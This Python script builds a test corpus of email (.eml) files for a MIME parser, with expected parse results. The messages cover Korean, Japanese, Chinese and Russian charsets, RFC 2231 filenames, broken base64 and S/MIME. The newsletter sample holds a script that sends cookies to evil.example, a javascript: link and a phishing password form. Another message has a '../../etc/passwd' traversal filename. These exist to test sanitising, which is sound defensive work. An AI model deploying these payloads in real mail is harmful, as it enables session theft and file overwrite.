# ruff: noqa: E501  (message lines are data and stay as they appear on the wire)
"""Regenerate the corpus files in this directory (run once; the .eml files are committed).

Each message is written by hand below, modelled on the structure and quirks of real mail
from the named clients; the exact bytes matter (CP949 in a ks_c_5601-1987 label, ...), so
they are produced here rather than typed. Expected results are in expected.json.
"""

from __future__ import annotations

import base64
import hashlib
import quopri
import re
from pathlib import Path

from corpus_tools import CorpusWriter, att, b64, word

HERE = Path(__file__).parent
corpus = CorpusWriter(HERE)
write = corpus.write


# 1. Outlook, Korean: ks_c_5601-1987 label, CP949-only syllable 똠 in subject, name, body and filename.
korean_body = "안녕하세요. 똠방각하 보고서를 보내드립니다.\r\n감사합니다.\r\n"
korean_html = "<html><body><p>안녕하세요. <b>똠방각하</b> 보고서를 보내드립니다.</p></body></html>"
hwp = b"HWP Document File" + bytes(range(256)) * 4
write(
    "outlook_ks_c_5601.eml",
    [
        b"Received: from mail.example.co.kr (mail.example.co.kr [192.0.2.10])",
        b"\tby mx.example.com with ESMTPS id abc123; Fri, 27 Nov 2026 09:12:01 +0900",
        b"From: " + word("김똠순", "ks_c_5601-1987", "cp949") + b" <ddom@example.co.kr>",
        b"To: " + word("홍길동", "ks_c_5601-1987", "cp949") + b" <hong@example.com>",
        b"Subject: " + word("[보고] 똠방각하 주간 보고서", "ks_c_5601-1987", "cp949"),
        b"Date: Fri, 27 Nov 2026 09:12:00 +0900",
        b"Message-ID: <000001da1234$56789abc$0a0b0c0d@example.co.kr>",
        b"MIME-Version: 1.0",
        b'Content-Type: multipart/mixed;\tboundary="----=_NextPart_000_0001_01DA1234.56789ABC"',
        b"X-Mailer: Microsoft Outlook 16.0",
        b"Thread-Index: AdoSNFZ4mrwKCwwN",
        b"Content-Language: ko",
        b"",
        b"This is a multi-part message in MIME format.",
        b"",
        b"------=_NextPart_000_0001_01DA1234.56789ABC",
        b'Content-Type: multipart/alternative;\tboundary="----=_NextPart_001_0002_01DA1234.56789ABC"',
        b"",
        b"",
        b"------=_NextPart_001_0002_01DA1234.56789ABC",
        b'Content-Type: text/plain;\tcharset="ks_c_5601-1987"',
        b"Content-Transfer-Encoding: base64",
        b"",
        b64(korean_body.encode("cp949")),
        b"",
        b"------=_NextPart_001_0002_01DA1234.56789ABC",
        b'Content-Type: text/html;\tcharset="ks_c_5601-1987"',
        b"Content-Transfer-Encoding: base64",
        b"",
        b64(korean_html.encode("cp949")),
        b"",
        b"------=_NextPart_001_0002_01DA1234.56789ABC--",
        b"",
        b"------=_NextPart_000_0001_01DA1234.56789ABC",
        b'Content-Type: application/octet-stream;\tname="'
        + word("똠방각하 보고서.hwp", "ks_c_5601-1987", "cp949")
        + b'"',
        b"Content-Transfer-Encoding: base64",
        b'Content-Disposition: attachment;\tfilename="'
        + word("똠방각하 보고서.hwp", "ks_c_5601-1987", "cp949")
        + b'"',
        b"",
        b64(hwp),
        b"",
        b"------=_NextPart_000_0001_01DA1234.56789ABC--",
        b"",
    ],
    {
        "subject": "[보고] 똠방각하 주간 보고서",
        "from": [["김똠순", "ddom@example.co.kr"]],
        "to": [["홍길동", "hong@example.com"]],
        "text_contains": ["똠방각하 보고서를 보내드립니다", "감사합니다"],
        "html_contains": ["<b>똠방각하</b>"],
        "attachments": [att("똠방각하 보고서.hwp", hwp, "application/octet-stream")],
        "defects": [],
    },
)

# 2. Korean webmail with raw 8-bit (CP949) headers and an 8bit euc-kr body containing 똠.
write(
    "euckr_raw_8bit_headers.eml",
    [
        b"Return-Path: <sender@portal.example.kr>",
        b'From: "' + "이똠이".encode("cp949") + b'" <sender@portal.example.kr>',
        b"To: <friend@example.com>",
        b"Subject: " + "똠 얌 꿍 모임 안내".encode("cp949"),
        b"Date: Thu, 26 Nov 2026 18:00:00 +0900",
        b"Message-Id: <20261126180000.AB12@portal.example.kr>",
        b"MIME-Version: 1.0",
        b"Content-Type: text/plain; charset=euc-kr",
        b"Content-Transfer-Encoding: 8bit",
        b"",
        "모임은 똠양꿍 식당에서 합니다.".encode("cp949"),
        "늦지 마세요!".encode("cp949"),
        b"",
    ],
    {
        "subject": "똠 얌 꿍 모임 안내",
        "from": [["이똠이", "sender@portal.example.kr"]],
        "text_contains": ["모임은 똠양꿍 식당에서 합니다.", "늦지 마세요!"],
        "attachments": [],
        "defects": [],
    },
)

# 3. Gmail: mixed > related > alternative, inline cid image, RFC 2231 UTF-8 filename, remote pixel.
png = b"\x89PNG\r\n\x1a\n" + bytes(200)
pdf = b"%PDF-1.5\n" + b"0123456789abcdef" * 300 + b"\n%%EOF\n"
gmail_html = (
    '<div dir="ltr">Hi,<div>see the chart:<br><img src="cid:ii_lp1abc2" alt="chart.png" width="300">'
    '<br></div><img src="https://mail.example.net/track/open?u=42" width="1" height="1"></div>'
)
write(
    "gmail_related_inline.eml",
    [
        b"MIME-Version: 1.0",
        b"Date: Wed, 25 Nov 2026 10:03:41 +0100",
        b"Message-ID: <CAF=abc123+xyz@mail.gmail.com>",
        b"In-Reply-To: <prev-1@example.org>",
        b"References: <root-0@example.org>",
        b" <prev-1@example.org>",
        b"Subject: =?UTF-8?Q?Quarterly_figures_=E2=80=93_M=C3=BCller?=",
        b"From: =?UTF-8?Q?J=C3=BCrgen_M=C3=BCller?= <juergen@example.de>",
        b'To: Ana <ana@example.org>, "Doe, John" <john@example.org>',
        b"Cc: team@example.org",
        b'Content-Type: multipart/mixed; boundary="000000000000a1b2c3d4e5f6a7b8"',
        b"",
        b"--000000000000a1b2c3d4e5f6a7b8",
        b'Content-Type: multipart/related; boundary="000000000000a1b2c3d4e5f6a7b7"',
        b"",
        b"--000000000000a1b2c3d4e5f6a7b7",
        b'Content-Type: multipart/alternative; boundary="000000000000a1b2c3d4e5f6a7b6"',
        b"",
        b"--000000000000a1b2c3d4e5f6a7b6",
        b'Content-Type: text/plain; charset="UTF-8"',
        b"Content-Transfer-Encoding: quoted-printable",
        b"",
        quopri.encodestring("Hi,\r\nsee the chart:\r\n[image: chart.png]\r\nGrüße\r\n".encode()).rstrip(
            b"\r\n"
        ),
        b"",
        b"--000000000000a1b2c3d4e5f6a7b6",
        b'Content-Type: text/html; charset="UTF-8"',
        b"",
        gmail_html.encode(),
        b"",
        b"--000000000000a1b2c3d4e5f6a7b6--",
        b"--000000000000a1b2c3d4e5f6a7b7",
        b'Content-Type: image/png; name="chart.png"',
        b'Content-Disposition: inline; filename="chart.png"',
        b"Content-Transfer-Encoding: base64",
        b"Content-ID: <ii_lp1abc2>",
        b"X-Attachment-Id: ii_lp1abc2",
        b"",
        b64(png),
        b"--000000000000a1b2c3d4e5f6a7b7--",
        b"--000000000000a1b2c3d4e5f6a7b8",
        b'Content-Type: application/pdf; name="Ergebnisse Q3 (Entwurf).pdf"',
        b"Content-Disposition: attachment; ",
        b"\tfilename*=UTF-8''Ergebnisse%20Q3%20%C3%9Cbersicht%20%28Entwurf%29.pdf",
        b"Content-Transfer-Encoding: base64",
        b"Content-ID: <f_lp1abc3>",
        b"X-Attachment-Id: f_lp1abc3",
        b"",
        b64(pdf),
        b"--000000000000a1b2c3d4e5f6a7b8--",
        b"",
    ],
    {
        "subject": "Quarterly figures – Müller",
        "from": [["Jürgen Müller", "juergen@example.de"]],
        "to": [["Ana", "ana@example.org"], ["Doe, John", "john@example.org"]],
        "cc": [["", "team@example.org"]],
        "message_id": "<CAF=abc123+xyz@mail.gmail.com>",
        "in_reply_to": "<prev-1@example.org>",
        "references": ["<root-0@example.org>", "<prev-1@example.org>"],
        "text_contains": ["see the chart:", "Grüße"],
        "html_contains": ['src="cid:ii_lp1abc2"'],
        "html_not_contains": ["mail.example.net"],
        "remote_resources": ["https://mail.example.net/track/open?u=42"],
        "attachments": [
            att("chart.png", png, "image/png", inline=True, content_id="ii_lp1abc2"),
            att("Ergebnisse Q3 Übersicht (Entwurf).pdf", pdf, "application/pdf"),
        ],
        "defects": [],
    },
)

# 4. Apple Mail: format=flowed text, inline attachment between two text parts in multipart/mixed.
notes = b"Shopping list\n- milk\n- bread\n"
write(
    "apple_mail_mixed_inline.eml",
    [
        b"From: Marie Curie <marie@example.fr>",
        b"Content-Type: multipart/mixed;",
        b'\tboundary="Apple-Mail=_5C2E3A71-1F2B-4C7D-9E8A-0B1C2D3E4F50"',
        b"Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3731.700.6\\))",
        b"Subject: Re: weekend",
        b"Date: Sat, 21 Nov 2026 21:14:07 +0100",
        b"In-Reply-To: <B1E2@example.fr>",
        b"To: Pierre <pierre@example.fr>",
        b"References: <A0D1@example.fr> <B1E2@example.fr>",
        b"Message-Id: <9F8E7D6C-5B4A-3928-1706-F5E4D3C2B1A0@example.fr>",
        b"X-Mailer: Apple Mail (2.3731.700.6)",
        b"",
        b"",
        b"--Apple-Mail=_5C2E3A71-1F2B-4C7D-9E8A-0B1C2D3E4F50",
        b"Content-Transfer-Encoding: quoted-printable",
        b"Content-Type: text/plain;",
        b"\tcharset=utf-8",
        b"",
        b"Here is the list, caf=C3=A9 at 10?",
        b"",
        b"--Apple-Mail=_5C2E3A71-1F2B-4C7D-9E8A-0B1C2D3E4F50",
        b"Content-Disposition: inline;",
        b"\tfilename=list.txt",
        b"Content-Type: text/plain;",
        b"\tx-unix-mode=0644;",
        b'\tname="list.txt"',
        b"Content-Transfer-Encoding: 7bit",
        b"",
        b"Shopping list",
        b"- milk",
        b"- bread",
        b"",
        b"--Apple-Mail=_5C2E3A71-1F2B-4C7D-9E8A-0B1C2D3E4F50",
        b"Content-Transfer-Encoding: 7bit",
        b"Content-Type: text/plain;",
        b"\tcharset=us-ascii",
        b"",
        b"",
        b"Marie",
        b"",
        b"--Apple-Mail=_5C2E3A71-1F2B-4C7D-9E8A-0B1C2D3E4F50--",
        b"",
    ],
    {
        "subject": "Re: weekend",
        "from": [["Marie Curie", "marie@example.fr"]],
        "text_contains": ["caf\u00e9 at 10?", "Marie"],
        "attachments": [
            att(
                "list.txt", notes.replace(b"\n", b"\r\n").rstrip(b"\r\n") + b"\r\n", "text/plain", inline=True
            )
        ],
        "defects": [],
    },
)

# 5. Japanese ISO-2022-JP (subject, body, attachment name), Shift_JIS part with a cp932 extension (①).
jp_body = "お世話になっております。\r\n資料を添付いたします。\r\n"
sjis_text = "①議事録\r\n②予定表\r\n"
xls = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)
write(
    "japanese_iso2022jp.eml",
    [
        b"From: " + word("山田太郎", "ISO-2022-JP", "iso2022_jp") + b" <yamada@example.jp>",
        b"To: suzuki@example.jp",
        b"Subject: " + word("会議資料の送付", "ISO-2022-JP", "iso2022_jp"),
        b"Date: Mon, 23 Nov 2026 14:30:00 +0900 (JST)",
        b"Message-Id: <202611230530.AA01234@example.jp>",
        b"MIME-Version: 1.0",
        b'Content-Type: multipart/mixed; boundary="--Boundary_(ID_abc)"',
        b"",
        b"----Boundary_(ID_abc)",
        b"Content-Type: text/plain; charset=ISO-2022-JP",
        b"Content-Transfer-Encoding: 7bit",
        b"",
        jp_body.encode("iso2022_jp").rstrip(b"\r\n"),
        b"",
        b"----Boundary_(ID_abc)",
        b"Content-Type: text/plain; charset=Shift_JIS",
        b"Content-Transfer-Encoding: base64",
        b"Content-Disposition: inline",
        b"",
        b64(sjis_text.encode("cp932")),
        b"",
        b"----Boundary_(ID_abc)",
        b'Content-Type: application/vnd.ms-excel; name="'
        + word("資料.xls", "ISO-2022-JP", "iso2022_jp")
        + b'"',
        b'Content-Disposition: attachment; filename="' + word("資料.xls", "ISO-2022-JP", "iso2022_jp") + b'"',
        b"Content-Transfer-Encoding: base64",
        b"",
        b64(xls),
        b"",
        b"----Boundary_(ID_abc)--",
        b"",
    ],
    {
        "subject": "会議資料の送付",
        "from": [["山田太郎", "yamada@example.jp"]],
        "text_contains": ["資料を添付いたします。", "①議事録"],
        "attachments": [att("資料.xls", xls, "application/vnd.ms-excel")],
        "defects": [],
    },
)

# 6. Broken Base64 attachment: stray characters and a truncated tail.
blob = bytes((i * 7) % 256 for i in range(3000))
encoded = b64(blob)
damaged = encoded[:200] + b"!!**" + encoded[200:-7]
good_prefix = base64.b64decode(encoded[: (len(encoded[:-7].replace(b"\r\n", b"")) // 4) * 4 + 200])
write(
    "broken_base64.eml",
    [
        b"From: scanner@example.com",
        b"To: office@example.com",
        b"Subject: Scan 0042",
        b"Date: Tue, 24 Nov 2026 08:00:00 -0500",
        b"MIME-Version: 1.0",
        b'Content-Type: multipart/mixed; boundary="scan-boundary"',
        b"",
        b"--scan-boundary",
        b"Content-Type: text/plain",
        b"",
        b"Scanned document attached.",
        b"--scan-boundary",
        b'Content-Type: application/octet-stream; name="scan0042.bin"',
        b"Content-Transfer-Encoding: base64",
        b"",
        damaged,
        b"--scan-boundary--",
        b"",
    ],
    {
        "subject": "Scan 0042",
        "text_contains": ["Scanned document attached."],
        "attachments": [
            {
                "filename": "scan0042.bin",
                "content_type": "application/octet-stream",
                "prefix_sha256": hashlib.sha256(blob[:2000]).hexdigest(),
                "prefix_len": 2000,
            }
        ],
        "defects": ["broken-base64"],
    },
)

# 7. Missing end boundary (mailer cut off): last part runs to the end of the file.
write(
    "missing_end_boundary.eml",
    [
        b"From: list@example.org",
        b"To: member@example.org",
        b"Subject: Truncated digest",
        b"Date: Sun, 22 Nov 2026 12:00:00 +0000",
        b"MIME-Version: 1.0",
        b"Content-Type: multipart/mixed; boundary=XYZ",
        b"",
        b"--XYZ",
        b"Content-Type: text/plain; charset=iso-8859-1",
        b"Content-Transfer-Encoding: quoted-printable",
        b"",
        b"First part, na=EFve caf=E9.",
        b"--XYZ",
        b'Content-Type: text/csv; name="data.csv"',
        b"Content-Disposition: attachment",
        b"",
        b"a,b,c",
        b"1,2,3",
    ],
    {
        "subject": "Truncated digest",
        "text_contains": ["First part, naïve café."],
        "attachments": [att("data.csv", b"a,b,c\r\n1,2,3", "text/csv")],
        "defects": ["missing-end-boundary"],
    },
)

# 8. RFC 2231 continuations: encoded (filename*0*) and plain (name*0/name*1), charset-tagged.
long_name = "Протокол заседания совета директоров от 27 ноября 2026 года (окончательный).docx"
docx = b"PK\x03\x04" + bytes(100)
quoted = "".join(
    chr(b) if b < 128 and (chr(b).isalnum() or chr(b) in ".-_") else f"%{b:02X}"
    for b in long_name.encode("utf-8")
)
chunks: list[str] = [""]
for token in re.findall(r"%[0-9A-F]{2}|.", quoted):  # real senders keep escapes whole (most of them)
    if len(chunks[-1]) + len(token) > 60:
        chunks.append("")
    chunks[-1] += token
disp = [b"Content-Disposition: attachment;"]
for index, chunk in enumerate(chunks):
    prefix = "utf-8''" if index == 0 else ""
    end = ";" if index < len(chunks) - 1 else ""
    disp.append(f" filename*{index}*={prefix}{chunk}{end}".encode())
write(
    "rfc2231_continuations.eml",
    [
        b"From: secretary@example.ru",
        b"To: board@example.ru",
        b"Subject: =?koi8-r?B?" + base64.b64encode("Протокол".encode("koi8_r")) + b"?=",
        b"Date: Fri, 27 Nov 2026 16:00:00 +0300",
        b"MIME-Version: 1.0",
        b'Content-Type: multipart/mixed; boundary="b1_2231"',
        b"",
        b"--b1_2231",
        b"Content-Type: text/plain; charset=windows-1251",
        b"Content-Transfer-Encoding: 8bit",
        b"",
        "Протокол во вложении.".encode("cp1251"),
        b"--b1_2231",
        b"Content-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document;",
        b' name*0="protocol-part-one-";',
        b' name*1="part-two.docx"',
        *disp,
        b"Content-Transfer-Encoding: base64",
        b"",
        b64(docx),
        b"--b1_2231",
        b"Content-Type: text/plain; charset=us-ascii",
        b"Content-Disposition: attachment;",
        b' filename*0="notes-";',
        b' filename*1="2026.txt"',
        b"",
        b"plain continuation",
        b"--b1_2231--",
        b"",
    ],
    {
        "subject": "Протокол",
        "text_contains": ["Протокол во вложении."],
        "attachments": [
            att(long_name, docx, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
            att("notes-2026.txt", b"plain continuation", "text/plain"),
        ],
        "defects": [],
    },
)

# 9. HTML newsletter full of things that must not survive sanitising.
newsletter = """<!DOCTYPE html><html><head>
<link rel="stylesheet" href="https://cdn.example-news.com/style.css">
<style>@import url("https://fonts.example-news.com/font.css"); body { background: url(https://cdn.example-news.com/bg.jpg); }</style>
<script>document.location='https://evil.example/steal?c='+document.cookie</script>
</head><body onload="track()">
<table background="https://cdn.example-news.com/table-bg.png"><tr><td>
<h1 style="color:#333;background-image:url('https://cdn.example-news.com/h1.png')">November news</h1>
<img src="https://cdn.example-news.com/banner.jpg" srcset="https://cdn.example-news.com/banner@2x.jpg 2x" alt="banner">
<p onclick="steal()">Read <a href="https://example-news.com/article?id=7">the article</a>
or <a href="javascript:alert(document.cookie)">this</a>.</p>
<form action="https://evil.example/login"><input type="password" name="pw"><button>Log in</button></form>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/x.swf"></object>
</td></tr></table>
<img src="https://pixel.example-news.com/open.gif?id=99" width="1" height="1">
</body></html>"""
write(
    "newsletter_html.eml",
    [
        b"From: News <news@example-news.com>",
        b"To: reader@example.com",
        b"Subject: November news",
        b"Date: Mon, 02 Nov 2026 07:00:00 +0000",
        b"List-Unsubscribe: <https://example-news.com/unsub?u=1>",
        b"MIME-Version: 1.0",
        b"Content-Type: text/html; charset=utf-8",
        b"Content-Transfer-Encoding: quoted-printable",
        b"",
        quopri.encodestring(newsletter.encode()).replace(b"\n", b"\r\n"),
        b"",
    ],
    {
        "subject": "November news",
        "text": None,
        "html_contains": ["November news", 'href="https://example-news.com/article?id=7"'],
        "html_not_contains": [
            "<script",
            "onload",
            "onclick",
            "<form",
            "<iframe",
            "<object",
            "javascript:",
            "https://cdn.example-news.com",
            "pixel.example-news.com",
            "<input",
            "document.cookie",
        ],
        "remote_contains": [
            "https://cdn.example-news.com/style.css",
            "https://fonts.example-news.com/font.css",
            "https://cdn.example-news.com/bg.jpg",
            "https://cdn.example-news.com/table-bg.png",
            "https://cdn.example-news.com/h1.png",
            "https://cdn.example-news.com/banner.jpg",
            "https://cdn.example-news.com/banner@2x.jpg",
            "https://pixel.example-news.com/open.gif?id=99",
        ],
        "attachments": [],
        "defects": [],
    },
)

# 10. Forward as attachment (message/rfc822 containing its own multipart), Thunderbird style.
inner_zip = b"PK\x03\x04" + b"zipdata" * 50
inner = b"\r\n".join(
    [
        b"From: Alice <alice@example.com>",
        b"To: Bob <bob@example.com>",
        b"Subject: Original with attachment",
        b"Date: Thu, 19 Nov 2026 09:00:00 +0000",
        b"MIME-Version: 1.0",
        b'Content-Type: multipart/mixed; boundary="inner-b"',
        b"",
        b"--inner-b",
        b"Content-Type: text/plain; charset=utf-8",
        b"",
        b"Original text.",
        b"--inner-b",
        b'Content-Type: application/zip; name="archive.zip"',
        b'Content-Disposition: attachment; filename="archive.zip"',
        b"Content-Transfer-Encoding: base64",
        b"",
        b64(inner_zip),
        b"--inner-b--",
        b"",
    ]
)
write(
    "forwarded_rfc822.eml",
    [
        b"From: Bob <bob@example.com>",
        b"To: Carol <carol@example.com>",
        b"Subject: Fwd: Original with attachment",
        b"Date: Fri, 20 Nov 2026 10:00:00 +0000",
        b"MIME-Version: 1.0",
        b"User-Agent: Mozilla Thunderbird",
        b'Content-Type: multipart/mixed; boundary="------------outer0123456789"',
        b"",
        b"This is a multi-part message in MIME format.",
        b"--------------outer0123456789",
        b"Content-Type: text/plain; charset=UTF-8; format=flowed",
        b"Content-Transfer-Encoding: 7bit",
        b"",
        b"See below.",
        b"",
        b"--------------outer0123456789",
        b'Content-Type: message/rfc822; name="Original with attachment.eml"',
        b'Content-Disposition: attachment; filename="Original with attachment.eml"',
        b"",
        inner,
        b"--------------outer0123456789--",
        b"",
    ],
    {
        "subject": "Fwd: Original with attachment",
        "text_contains": ["See below."],
        "text_not_contains": ["Original text."],
        "attachments": [
            att("Original with attachment.eml", inner, "message/rfc822"),
            att("archive.zip", inner_zip, "application/zip"),
        ],
        "paths": ["1", "2", "2.1", "2.2"],
        "defects": [],
    },
)

# 11. S/MIME signed (multipart/signed; protocol application/pkcs7-signature).
signature = bytes(range(48, 48 + 64)) * 8
write(
    "smime_signed.eml",
    [
        b"From: Signer <signer@example.com>",
        b"To: rcpt@example.com",
        b"Subject: Signed message",
        b"Date: Wed, 18 Nov 2026 11:11:11 +0000",
        b"MIME-Version: 1.0",
        b'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256;',
        b' boundary="----SIGNED-BOUNDARY"',
        b"",
        b"This is an S/MIME signed message",
        b"",
        b"------SIGNED-BOUNDARY",
        b"Content-Type: text/plain; charset=utf-8",
        b"Content-Transfer-Encoding: 7bit",
        b"",
        b"This text is signed.",
        b"",
        b"------SIGNED-BOUNDARY",
        b'Content-Type: application/pkcs7-signature; name="smime.p7s"',
        b"Content-Transfer-Encoding: base64",
        b'Content-Disposition: attachment; filename="smime.p7s"',
        b"",
        b64(signature),
        b"",
        b"------SIGNED-BOUNDARY--",
        b"",
    ],
    {
        "subject": "Signed message",
        "text_contains": ["This text is signed."],
        "attachments": [att("smime.p7s", signature, "application/pkcs7-signature")],
        "defects": [],
    },
)

# 12. Bad headers: garbage Date, unknown charset, an address list the stdlib chokes on, a junk line.
write(
    "bad_headers.eml",
    [
        b'From: "Broken <sender@example.com>',
        b"To: undisclosed-recipients:;",
        b"Cc: =?utf-8?q?Tr=C3=A9s?= <tres@example.com>,, ,<@bad>",
        b"Subject: =?x-unknown-charset?B?SGVsbG8gV29ybGQ=?= and =?utf-8?B?broken?=",
        b"Date: sometime last week",
        b"Message-ID: no brackets here",
        b"MIME-Version: 1.0",
        b"Content-Type: text/plain; charset=x-mac-klingon",
        b"Content-Transfer-Encoding: 8bit",
        b"",
        "Body in UTF-8 despite the label: ünïcödé.".encode(),
        b"",
    ],
    {
        "subject_contains": "Hello World",
        "text_contains": ["ünïcödé"],
        "date": None,
        "attachments": [],
        "defects_include": ["bad-date", "unknown-charset"],
    },
    newline=b"\n",
)

# 13. Chinese: gb2312 label with a GBK-only character (喆), Big5 part, UTF-7 subject.
write(
    "chinese_gb2312_big5.eml",
    [
        b"From: =?gb2312?B?" + base64.b64encode("王喆".encode("gbk")) + b"?= <wangzhe@example.cn>",
        b"To: friend@example.tw",
        b"Subject: =?utf-7?Q?Hi_+ZeVnLGWHW1c-?=",
        b"Date: Tue, 17 Nov 2026 20:00:00 +0800",
        b"MIME-Version: 1.0",
        b'Content-Type: multipart/mixed; boundary="=_cn"',
        b"",
        b"--=_cn",
        b"Content-Type: text/plain; charset=gb2312",
        b"Content-Transfer-Encoding: base64",
        b"",
        b64("你好，我是王喆。".encode("gbk")),
        b"--=_cn",
        b"Content-Type: text/plain; charset=big5",
        b"Content-Transfer-Encoding: base64",
        b"Content-Disposition: inline",
        b"",
        b64("繁體中文測試".encode("big5")),
        b"--=_cn--",
        b"",
    ],
    {
        "subject": "Hi 日本文字",
        "from": [["王喆", "wangzhe@example.cn"]],
        "text_contains": ["我是王喆", "繁體中文測試"],
        "attachments": [],
        "defects": [],
    },
)

# 14. No charset, mislabelled latin-1 that is really UTF-8, KOI8-R part.
write(
    "mislabelled_charsets.eml",
    [
        b"From: Ivan <ivan@example.ru>",
        b"To: you@example.com",
        b"Subject: =?iso-8859-1?Q?Caf=E9?= =?koi8-r?Q?_=F0=D2=C9=D7=C5=D4?=",
        b"Date: Mon, 16 Nov 2026 08:08:08 +0300",
        b"MIME-Version: 1.0",
        b"Content-Type: multipart/alternative; boundary=alt",
        b"",
        b"--alt",
        b"Content-Type: text/plain; charset=iso-8859-1",
        b"Content-Transfer-Encoding: 8bit",
        b"",
        "Really UTF-8: Ærøskøbing — “quotes”".encode(),
        b"--alt",
        b"Content-Type: text/html",
        b"",
        "<p>Привет</p>".encode("koi8_r"),
        b"--alt--",
        b"",
    ],
    {
        "subject": "Café Привет",
        "text_contains": ["Ærøskøbing — “quotes”"],
        "attachments": [],
        "defects": [],
    },
    newline=b"\n",
)

# 15. Webmail quirk: RFC 2047 words inside a quoted filename, and a multipart with no boundary lines.
zipdata = b"PK\x03\x04" + b"\x00" * 30
write(
    "rfc2047_quoted_filename.eml",
    [
        b"From: webmail-user@example.com",
        b"To: x@example.com",
        b"Subject: files",
        b"Date: Sun, 15 Nov 2026 15:15:15 +0000",
        b"MIME-Version: 1.0",
        b'Content-Type: multipart/mixed; boundary="wm"',
        b"",
        b"--wm",
        b"Content-Type: text/plain; charset=utf-8",
        b"",
        b"two files",
        b"--wm",
        b'Content-Type: application/zip; name="=?UTF-8?B?7Jes7ZaJIOyCrOynhC56aXA=?="',
        b'Content-Disposition: attachment; filename="=?UTF-8?B?7Jes7ZaJIOyCrOynhC56aXA=?="',
        b"Content-Transfer-Encoding: base64",
        b"",
        b64(zipdata),
        b"--wm",
        b'Content-Type: application/octet-stream; name="=?utf-8?Q?..=2F..=2Fetc=2Fpasswd?="',
        b'Content-Disposition: attachment; filename="=?utf-8?Q?..=2F..=2Fetc=2Fpasswd?="',
        b"Content-Transfer-Encoding: base64",
        b"",
        b64(b"root:x:0:0"),
        b"--wm",
        b"Content-Type: multipart/alternative",
        b"",
        b"no boundary parameter here",
        b"--wm--",
        b"",
    ],
    {
        "subject": "files",
        "text_contains": ["two files"],
        "attachments": [
            att("여행 사진.zip", zipdata, "application/zip"),
            att("../../etc/passwd", b"root:x:0:0", "application/octet-stream", safe_filename="passwd"),
        ],
        "defects": ["missing-boundary-parameter"],
    },
)

corpus.save()
